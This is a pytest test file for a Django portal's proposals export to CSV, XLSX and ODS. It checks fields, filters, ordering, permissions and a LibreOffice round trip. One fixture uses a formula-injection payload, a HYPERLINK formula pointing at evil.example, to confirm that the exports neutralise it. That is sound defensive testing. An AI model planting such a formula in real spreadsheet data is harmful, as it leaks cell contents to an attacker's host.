"""The proposals export (CSV, XLSX, ODS of the proposals list): the list's
search and filters applied, in its order, one row a proposal with every
field, only what the person may read; and what LibreOffice reads back from
the XLSX and the ODS is the CSV's rows."""

import csv
import datetime
import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from odfdo import Document
from openpyxl import load_workbook

from ateliers.models import Proposal
from cucs_portal.exports import spreadsheet_safe
from tests import factories as f

S = Proposal.Status
pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
# LibreOffice's CSV: "," between cells, '"' around them, UTF-8 (76).
LIBREOFFICE_CSV = "csv:Text - txt - csv (StarCalc):44,34,76"
SOFFICE_TIMEOUT = 120


def export(client, user, export_format="csv", query=None):
    client.force_login(user)
    url = reverse(f"ateliers:proposal_export_{export_format}")
    response = client.get(url, query or {})
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def references(response) -> list[str]:
    return [row[0] for row in csv_rows(response)[1:]]


@pytest.fixture
def full(world):
    """A validated proposal with every field filled, some text hostile, its
    dates on whole minutes."""
    atelier = world.proposals[S.VALIDATED].atelier
    lead = f.OrganisationFactory(name="Bailleur Loire Habitat")
    partners = [
        f.OrganisationFactory(name="Ville de Firminy"),
        f.OrganisationFactory(name="Association Relais"),
    ]
    proposal = f.ProposalFactory(
        atelier=atelier,
        enjeu=world.proposals[S.VALIDATED].enjeu,
        number=42,
        status=S.VALIDATED,
        priority=Proposal.Priority.HIGH,
        title=HOSTILE,
        summary="Un résumé ; avec « guillemets » et des accents éèà.",
        description="Deux lignes :\nla seconde.",
        actions="- Agir\n- Évaluer",
        timetable="2007-2008",
        means="10 000 € par an",
        indicators="+5 % de locataires présents",
        lead_organisation=lead,
        partner_organisations=partners,
        territories=[f.NeighbourhoodFactory(name="Montreynaud")],
        authors=[f.UserFactory(first_name="Zoé", last_name="Charme")],
    )
    moment = timezone.make_aware(datetime.datetime(2007, 5, 10, 9, 30))
    Proposal.objects.filter(pk=proposal.pk).update(
        created_at=moment, updated_at=moment, status_changed_at=moment
    )
    proposal.refresh_from_db()
    return proposal


def test_a_row_holds_every_field_of_the_proposal(client, world, full):
    rows = csv_rows(export(client, world.people["secretariat"]))

    header, *lines = rows
    # In the portal's language, French (what the catalogue has of it).
    with translation.override("fr"):
        assert header == [
            gettext("Reference"),
            gettext("Title"),
            gettext("Atelier"),
            gettext("Axis"),
            gettext("Enjeu"),
            gettext("Status"),
            gettext("Priority"),
            gettext("Summary"),
            gettext("Description"),
            gettext("Actions"),
            gettext("Timetable"),
            gettext("Means"),
            gettext("Indicators"),
            gettext("Lead organisation"),
            gettext("Partner organisations"),
            gettext("Territories"),
            gettext("Authors"),
            gettext("Created"),
            gettext("Updated"),
            gettext("Status changed"),
            gettext("Version"),
        ]
    (row,) = [line for line in lines if line[0] == full.reference]
    assert row == [
        full.reference,
        f"'{HOSTILE}",
        full.atelier.name,
        str(full.atelier.axis),
        f"{full.enjeu.reference} {full.enjeu.title}",
        full.get_status_display(),
        full.get_priority_display(),
        full.summary,
        full.description,
        "'- Agir\n- Évaluer",
        "2007-2008",
        "10 000 € par an",
        "'+5 % de locataires présents",
        "Bailleur Loire Habitat",
        "Association Relais, Ville de Firminy",
        "Montreynaud",
        "Zoé Charme",
        "10/05/2007 09:30",
        "10/05/2007 09:30",
        "10/05/2007 09:30",
        str(full.version),
    ]


def test_the_spreadsheets_type_their_cells(client, world, full):
    """Dates are dates, the version a number, the hostile title a text."""
    secretariat = world.people["secretariat"]
    moment = datetime.datetime(2007, 5, 10, 9, 30)

    sheet = load_workbook(
        io.BytesIO(export(client, secretariat, "xlsx").content)
    ).active
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == full.reference]
    assert (row[1].value, row[1].data_type) == (HOSTILE, "s")
    assert row[17].value == moment and row[17].is_date
    assert (row[20].value, row[20].data_type) == (full.version, "n")

    ods = Document(io.BytesIO(export(client, secretariat, "ods").content))
    table = ods.body.get_table(0)
    with translation.override("fr"):
        assert table.name == gettext("Proposals")
    (cells,) = [
        list(r.traverse())
        for r in table.traverse()
        if r.get_cell(0).value == full.reference
    ]
    assert (cells[1].type, cells[1].value, cells[1].formula) == (
        "string",
        HOSTILE,
        None,
    )
    assert (cells[17].type, cells[17].value) == ("date", moment)
    assert (cells[20].type, cells[20].value) == ("float", full.version)


def test_a_partner_exports_the_validated_proposals_only(client, world, full):
    """In every format: what ``visible_to`` gives a partner, nothing more."""
    partner = world.people["partner"]
    validated = {
        p.reference
        for p in Proposal.objects.filter(status=S.VALIDATED).select_related(
            "atelier__axis"
        )
    }

    exported = references(export(client, partner))

    assert set(exported) == validated
    assert len(exported) == len(validated)
    sheet = load_workbook(io.BytesIO(export(client, partner, "xlsx").content)).active
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == validated


def test_someone_without_a_role_exports_the_header_only(client, world):
    assert csv_rows(export(client, world.people["plain"]))[1:] == []


@pytest.mark.parametrize(
    "query",
    [
        {"status": "validated"},
        {"q": "Proposition", "sort": "priority"},
        {"axis": "__axis__", "sort": "-updated"},
        {"organisation": "__lead__"},
    ],
)
def test_the_export_has_the_rows_of_the_list_in_its_order(client, world, full, query):
    """The same search, filters and sort as the list page, every page of it."""
    query = {
        key: {
            "__axis__": full.atelier.axis_id,
            "__lead__": full.lead_organisation_id,
        }.get(value, value)
        for key, value in query.items()
    }
    secretariat = world.people["secretariat"]
    client.force_login(secretariat)
    listed = client.get(reverse("ateliers:proposal_list"), query).context["page_obj"]
    assert listed.paginator.num_pages == 1

    exported = references(export(client, secretariat, query=query))

    assert exported == [p.reference for p in listed.object_list]
    assert exported


def test_the_list_links_to_its_exports_with_its_query(client, world):
    client.force_login(world.people["secretariat"])

    html = client.get(
        reverse("ateliers:proposal_list"), {"status": "validated", "page": "1"}
    ).content.decode()

    for export_format in ("csv", "xlsx", "ods"):
        url = reverse(f"ateliers:proposal_export_{export_format}")
        assert f'href="{url}?status=validated"' in html


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: the round trip needs it",
)
def test_libreoffice_reads_back_the_rows_of_the_csv(client, world, full, tmp_path):
    """The XLSX and the ODS, converted to CSV by LibreOffice, give the rows of
    the CSV export: every cell as the CSV writes it (a text that would start
    a formula comes back as that text, so LibreOffice did not run it)."""
    secretariat = world.people["secretariat"]
    expected = csv_rows(export(client, secretariat))
    assert len(expected) > 2
    for export_format in ("xlsx", "ods"):
        path = tmp_path / f"export-{export_format}.{export_format}"
        path.write_bytes(export(client, secretariat, export_format).content)
    out = tmp_path / "out"

    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--convert-to",
            LIBREOFFICE_CSV,
            "--outdir",
            str(out),
            str(tmp_path / "export-xlsx.xlsx"),
            str(tmp_path / "export-ods.ods"),
        ],
        check=True,
        capture_output=True,
        timeout=SOFFICE_TIMEOUT,
    )

    for export_format in ("xlsx", "ods"):
        text = (out / f"export-{export_format}.csv").read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert [[spreadsheet_safe(cell) for cell in row] for row in rows] == expected, (
            export_format
        )
